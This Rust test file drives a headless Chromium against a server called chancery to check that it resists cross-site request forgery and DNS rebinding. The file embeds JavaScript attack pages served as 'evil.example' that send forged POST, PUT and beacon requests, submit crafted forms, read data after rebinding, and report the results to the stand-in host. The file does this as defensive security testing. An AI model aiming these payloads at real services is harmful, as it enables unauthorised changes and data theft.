//! Web pages in a real browser on the server's machine: no page reads the server's data or changes it.

use std::collections::BTreeMap;
use std::io::{BufRead as _, BufReader, Write as _};
use std::net::{TcpListener, TcpStream};
use std::os::unix::process::CommandExt as _;
use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::sync::mpsc::{Receiver, channel};
use std::time::Duration;

use chancery_tests::{ServerProcess, TestClient, until};
use rustix::process::{Pid, Signal, kill_process_group};
use serde_json::{Value, json};
use tempfile::TempDir;

/// Resolver rule that maps every name under `example` to this machine.
const RULES: &str = "--host-resolver-rules=MAP *.example 127.0.0.1";

/// Script that tries cross-site requests, each on its own disruption, and reports when all have ended.
const CROSS_SITE: &str = r#"
  const fleet = "http://TARGET/v1/fleets/default";
  const approve = name => `${fleet}/nodes/node-1/disruptions/${name}/approve`;
  const submit = (name, enctype, fields) => new Promise(done => {
    const frame = document.createElement("iframe");
    frame.name = name;
    document.body.append(frame);
    const form = document.createElement("form");
    Object.assign(form, {method: "post", action: approve(name), target: name, enctype});
    for (const field of fields) form.append(Object.assign(document.createElement("input"), {name: field, value: "}"}));
    document.body.append(form);
    frame.onload = () => done("sent");
    form.submit();
  });
  const simple = (name, more) => fetch(approve(name), {method: "POST", mode: "no-cors", ...more});
  const json = {"content-type": "application/json"};
  const all = {
    bare: simple("bare"),
    text: simple("text", {body: "{}"}),
    untyped: simple("untyped", {body: new Blob(["{}"])}),
    json: simple("json", {body: "{}", headers: json}),
    cors: fetch(approve("cors"), {method: "POST", body: "{}", headers: json}),
    put: fetch(`${fleet}/capabilities/put`, {method: "PUT", body: '{"spec":{"type":"T","score":1}}', headers: json}),
    beacon: Promise.resolve(navigator.sendBeacon(approve("beacon"))),
    form: submit("form", "application/x-www-form-urlencoded", []),
    plain: submit("plain", "text/plain", ["{\"a\":\""]),
    link: fetch(`${fleet}/channels`, {method: "POST", mode: "no-cors"}),
    read: fetch(`${fleet}/nodes`).then(answer => answer.text()),
  };
"#;

/// Script that waits until the server answers at the page's origin, and then reads and applies with the same
/// origin.
const REBOUND: &str = r#"
  const fleet = "/v1/fleets/default";
  const up = async () => {
    for (;;) {
      try { return (await fetch("/readyz")).status; } catch { await new Promise(done => setTimeout(done, 100)); }
    }
  };
  const ready = up();
  const put = {method: "PUT", body: '{"spec":{"type":"T","score":1}}', headers: {"content-type": "application/json"}};
  const all = {
    ready,
    read: ready.then(() => fetch(`${fleet}/nodes`)).then(answer => answer.text()),
    events: ready.then(() => fetch(`${fleet}/events`)).then(answer => answer.text()),
    put: ready.then(() => fetch(`${fleet}/capabilities/put`, put)).then(answer => answer.status),
  };
"#;

/// End of each script: reports the results to the other site.
const REPORT: &str = r#"
  const seen = {};
  const reports = Object.entries(all).map(async ([name, ended]) => {
    try { const value = await ended; seen[name] = String(value?.type ?? value); } catch (error) { seen[name] = "refused: " + error; }
  });
  Promise.all(reports).then(() => fetch("REPORT/report?" + encodeURIComponent(JSON.stringify(seen)), {mode: "no-cors"}));
"#;

/// Browser with an open page; dropping it ends all of its processes.
struct BrowserProcess {
    child: Child,
    _profile: TempDir,
}

impl BrowserProcess {
    fn open(program: &PathBuf, url: &str) -> BrowserProcess {
        let profile = tempfile::Builder::new().prefix("chancery-browser-").tempdir().expect("a directory");
        let child = Command::new(program)
            .args([
                "--headless",
                "--no-sandbox",
                "--disable-gpu",
                "--disable-quic",
                "--disable-dev-shm-usage",
            ])
            .args(["--no-first-run", "--no-proxy-server", "--disable-background-networking"])
            .args(["--disable-component-update", "--disable-sync", "--remote-debugging-port=0", RULES])
            .arg(format!("--user-data-dir={}", profile.path().display()))
            .arg(url)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .process_group(0)
            .spawn()
            .expect("the browser starts");
        BrowserProcess { child, _profile: profile }
    }
}

impl Drop for BrowserProcess {
    fn drop(&mut self) {
        let group = Pid::from_raw(self.child.id().cast_signed()).expect("a process id");
        // The browser may have ended already.
        let _ = kill_process_group(group, Signal::KILL);
        let _ = self.child.wait();
    }
}

/// Path of the browser, if this machine has one.
fn browser() -> Option<PathBuf> {
    let paths = std::env::var_os("PATH").unwrap_or_default();
    let found = std::env::split_paths(&paths).map(|path| path.join("chromium")).find(|path| path.exists());
    if found.is_none() {
        eprintln!("skipped: there is no chromium on this machine");
    }
    found
}

/// Foreign site that serves the page to every client, and accepts one report.
struct ForeignSite {
    port: u16,
    reports: Receiver<Value>,
}

impl ForeignSite {
    fn on(listener: TcpListener, page: String) -> ForeignSite {
        let port = listener.local_addr().expect("an address").port();
        let (sender, reports) = channel();
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let Some(path) = asked(&stream) else { continue };
                if let Some(report) = path.strip_prefix("/report?") {
                    answer(stream, "");
                    let text = percent_decoded(report);
                    // The test may have ended.
                    let _ = sender.send(serde_json::from_str(&text).expect("a report"));
                    return;
                }
                answer(stream, &page);
            }
        });
        ForeignSite { port, reports }
    }

    fn report(&self) -> BTreeMap<String, String> {
        let report = self.reports.recv_timeout(Duration::from_mins(2)).expect("the page reports");
        serde_json::from_value(report).expect("texts")
    }
}

/// Path of the request. A browser also opens connections without a request.
fn asked(stream: &TcpStream) -> Option<String> {
    stream.set_read_timeout(Some(Duration::from_secs(1))).ok()?;
    let mut lines = BufReader::new(stream).lines();
    let first = lines.next()?.ok()?;
    lines.take_while(|line| line.as_ref().is_ok_and(|line| !line.is_empty())).for_each(drop);
    first.split(' ').nth(1).map(str::to_owned)
}

fn answer(mut stream: TcpStream, page: &str) {
    let length = page.len();
    let head = format!(
        "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {length}\r\nConnection: close\r\n\r\n"
    );
    // A browser that has ended does not receive it.
    let _ = stream.write_all((head + page).as_bytes());
}

fn percent_decoded(text: &str) -> String {
    let mut bytes = text.bytes();
    let mut decoded = Vec::new();
    while let Some(byte) = bytes.next() {
        if byte != b'%' {
            decoded.push(byte);
            continue;
        }
        let digits = [bytes.next().expect("a digit"), bytes.next().expect("a digit")];
        let digits = std::str::from_utf8(&digits).expect("ASCII");
        decoded.push(u8::from_str_radix(digits, 16).expect("a byte"));
    }
    String::from_utf8(decoded).expect("UTF-8")
}

fn page(script: &str, target: &str, report: &str) -> String {
    let script = format!("{script}{REPORT}").replace("TARGET", target).replace("REPORT", report);
    format!("<!DOCTYPE html><title>a page</title><body><script>{script}</script>")
}

fn listener() -> TcpListener {
    TcpListener::bind("127.0.0.1:0").expect("a port")
}

/// Events that the server has recorded.
fn recorded(client: &TestClient) -> String {
    let events = client.get("/v1/fleets/default/events");
    assert_eq!(events.status, 200, "{}", events.text);
    events.text
}

fn with_a_node(server: &ServerProcess) -> TestClient {
    let client = server.client();
    client.must(
        "node.apply",
        &json!({"name": "node-1", "spec": {"domain": "d1", "resources": {"cpu": 4000, "memory": 1 << 30}}}),
    );
    client
}

#[test]
fn a_page_of_another_site_changes_nothing_and_reads_nothing() {
    let Some(program) = browser() else { return };
    let server = ServerProcess::start();
    let client = with_a_node(&server);
    for name in ["bare", "text", "untyped", "json", "cors", "beacon", "form", "plain"] {
        let spec = json!({"start": 1_795_251_600_000_000_u64, "action": "none", "reason": "test"});
        client.must("disruption.schedule", &json!({"node": "node-1", "name": name, "spec": spec}));
    }
    let before = recorded(&client);
    assert!(before.contains("disruption.scheduled"), "{before}");
    let target = server.url().replace("http://", "");
    // A page of the internet, and a page of another program on this machine.
    for host in ["evil.example", "127.0.0.1"] {
        let listener = listener();
        let own = format!("http://{host}:{}", listener.local_addr().expect("an address").port());
        let site = ForeignSite::on(listener, page(CROSS_SITE, &target, &own));
        let _browser = BrowserProcess::open(&program, &format!("{own}/"));
        let seen = site.report();
        assert_eq!(seen.len(), 11, "{seen:?}");
        assert!(!seen["read"].contains("node-1"), "{seen:?}");
        assert_eq!(seen["form"], "sent", "{seen:?}");
        assert_eq!(recorded(&client), before, "of {own}: {seen:?}");
        assert!(
            client.get("/metrics").text.contains("chancery_executor_channels{fleet=\"default\"} 0"),
            "{seen:?}"
        );
    }
}

#[test]
fn a_page_whose_name_is_rebound_to_the_server_neither_reads_nor_applies() {
    let Some(program) = browser() else { return };
    let mut server = ServerProcess::start();
    let before = recorded(&with_a_node(&server));
    server.stay_at_this_address();
    let target = server.url().replace("http://", "");
    server.stop();
    // The page comes from the same port that the server uses afterwards.
    let elsewhere = ForeignSite::on(listener(), String::new());
    let report = format!("http://evil.example:{}", elsewhere.port);
    let first = TcpListener::bind(&target).expect("the port is free again");
    let port = first.local_addr().expect("an address").port();
    let _browser = BrowserProcess::open(&program, &format!("http://evil.example:{port}/"));
    let stream = until("the browser asks for the page", || {
        let (stream, _) = first.accept().expect("a connection");
        (asked(&stream).as_deref() == Some("/")).then_some(stream)
    });
    answer(stream, &page(REBOUND, &target, &report));
    drop(first);
    server.start_again();
    let seen = elsewhere.report();
    assert_eq!((seen["ready"].as_str(), seen["put"].as_str()), ("421", "421"), "{seen:?}");
    for read in ["read", "events"] {
        assert!(seen[read].contains("host_not_allowed") && !seen[read].contains("node-1"), "{seen:?}");
    }
    let client = server.client();
    assert!(!recorded(&client).contains("capability.appl"), "{seen:?}");
    assert!(recorded(&client).starts_with(&before), "{seen:?}");
}
